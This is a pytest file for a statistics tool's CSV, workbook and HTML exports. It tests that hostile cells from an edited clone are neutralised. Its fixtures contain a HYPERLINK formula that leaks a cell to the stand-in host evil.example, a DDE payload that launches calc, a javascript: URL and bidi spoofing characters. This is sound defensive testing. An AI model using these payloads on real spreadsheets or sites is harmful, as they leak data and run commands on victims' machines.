"""Exports and pages never carry live code, whatever a hand-edited clone's files hold.

A fork's CSV can hold ``=HYPERLINK("http://evil.example/?leak="&A1,"x")`` (a formula
that sends a cell to another site when the sheet is opened) and a ``javascript:``
address; the descriptor is refreshed, as a fork's would be. The CSV export writes such
cells as text (a leading ``'``, OWASP), or refuses with ``--formulas refuse``; the
workbook holds them as text cells (no ``<f>`` element); the catalog links only
``http``/``https`` addresses.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.conftest import run_cli
from tests.hostile._helpers import one_line_refusal

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def _edit_talent(root: Path, first: dict[str, str], second: dict[str, str]) -> None:
    path = root / "datasets" / "talent.csv"
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    rows[0].update(first)
    rows[1].update(second)
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
    w.writeheader()
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    refreshed = subprocess.run(
        [sys.executable, "-m", "chinaai_stats.tables.package", str(root)],
        capture_output=True,
        text=True,
    )
    assert refreshed.returncode == 0, refreshed.stderr


@pytest.fixture
def hostile_clone(data_copy: Path) -> Path:
    """A temp clone whose talent table was edited by hand (and its descriptor refreshed)."""
    _edit_talent(
        data_copy,
        {"entity": HYPERLINK, "notes": "@SUM(1+1)*cmd|' /C calc'!A0", "value": "-5"},
        {"primary_source_url": "javascript:alert(document.domain)", "notes": "-5% on the year"},
    )
    return data_copy


def _talent_rows(folder: Path) -> list[dict[str, str]]:
    text = (folder / "talent.csv").read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_export_writes_formula_leading_cells_as_text(hostile_clone, tmp_path) -> None:
    out = tmp_path / "csv"
    r = run_cli("export", "--format", "csv", "--out", str(out))
    assert r.returncode == 0, r.stderr
    rows = _talent_rows(out)
    assert rows[0]["entity"] == "'" + HYPERLINK
    assert rows[0]["notes"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1]["notes"] == "'-5% on the year"
    assert float(rows[0]["value"]) == -5  # a number, negative: never quoted
    assert not rows[0]["value"].startswith("'")
    for table in out.glob("*.csv"):  # no cell of any table starts like a formula
        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"))):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (table.name, cell)


def test_formulas_refuse_writes_nothing_and_names_the_cell(hostile_clone, tmp_path) -> None:
    out = tmp_path / "csv"
    args = ("export", "--format", "csv", "--out", str(out), "--formulas", "refuse")
    line = one_line_refusal(run_cli(*args), "talent", "entity", "formula", "--formulas quote")
    assert "row 1" in line
    assert not out.exists()
    r = run_cli(
        "export", "--format", "xlsx", "--out", str(tmp_path / "a.xlsx"), "--formulas", "refuse"
    )
    one_line_refusal(r, "talent")
    assert not (tmp_path / "a.xlsx").exists()


def test_a_clean_clone_passes_formulas_refuse(data_copy, tmp_path) -> None:
    r = run_cli("export", "--format", "csv", "--out", str(tmp_path / "c"), "--formulas", "refuse")
    assert r.returncode == 0, r.stderr


def test_the_workbook_holds_text_cells_never_formulas(hostile_clone, tmp_path) -> None:
    pytest.importorskip("openpyxl")
    book = tmp_path / "chinaai.xlsx"
    r = run_cli("export", "--format", "xlsx", "--out", str(book))
    assert r.returncode == 0, r.stderr
    with zipfile.ZipFile(book) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = {n: z.read(n).decode("utf-8") for n in sheets}
    assert sheets
    for name, text in xml.items():
        assert not re.search(r"<f[ >]", text), f"{name} holds a formula"
    import openpyxl

    ws = openpyxl.load_workbook(book)["talent"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("entity") + 1)
    assert cell.value == HYPERLINK and cell.data_type == "s" and cell.quotePrefix
    assert ws.cell(row=2, column=header.index("value") + 1).value == -5


def test_the_catalog_links_only_web_addresses(hostile_clone, tmp_path) -> None:
    site = tmp_path / "site"
    r = run_cli("report", "--out", str(site))
    assert r.returncode == 0, r.stderr
    pages = {p: p.read_text(encoding="utf-8") for p in site.rglob("*.html")}
    shown = [p for p, text in pages.items() if "javascript:alert(document.domain)" in text]
    assert shown, "the address is shown as text"
    for p, text in pages.items():
        for href in re.findall(r'href="([^"]*)"', text, flags=re.I):
            scheme = re.match(r"^\s*([A-Za-z][A-Za-z0-9+.\-]*):", href)
            assert scheme is None or scheme.group(1).lower() in ("http", "https"), (p, href)


BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]


@pytest.mark.parametrize("char", BIDI)
def test_validate_refuses_bidi_controls_in_text_cells(tmp_path, char) -> None:
    from tests.test_validation import GOOD, write_rows

    path = write_rows(tmp_path / "new.csv", [{**GOOD, "entity": f"Example {char}baL"}])
    r = run_cli("validate", str(path), "--table", "talent")
    assert r.returncode == 1, r.stdout + r.stderr
    assert "bidirectional control" in r.stdout and "entity" in r.stdout


def test_validate_refuses_the_hyperlink_formula(tmp_path) -> None:
    from tests.test_validation import GOOD, write_rows

    path = write_rows(tmp_path / "new.csv", [{**GOOD, "notes": HYPERLINK}])
    r = run_cli("validate", str(path), "--table", "talent")
    assert r.returncode == 1 and "formula" in r.stdout, r.stdout + r.stderr


def test_a_bidi_control_in_a_clone_does_not_spoof_the_catalog(data_copy, tmp_path) -> None:
    _edit_talent(data_copy, {"entity": "Tencent \u202ebaL IA"}, {})
    site = tmp_path / "site"
    r = run_cli("report", "--out", str(site))
    assert r.returncode == 0, r.stderr
    texts = [p.read_text(encoding="utf-8") for p in site.rglob("*.html")]
    assert not any(ch in t for t in texts for ch in BIDI)
    assert any("Tencent [U+202E]baL IA" in t for t in texts)
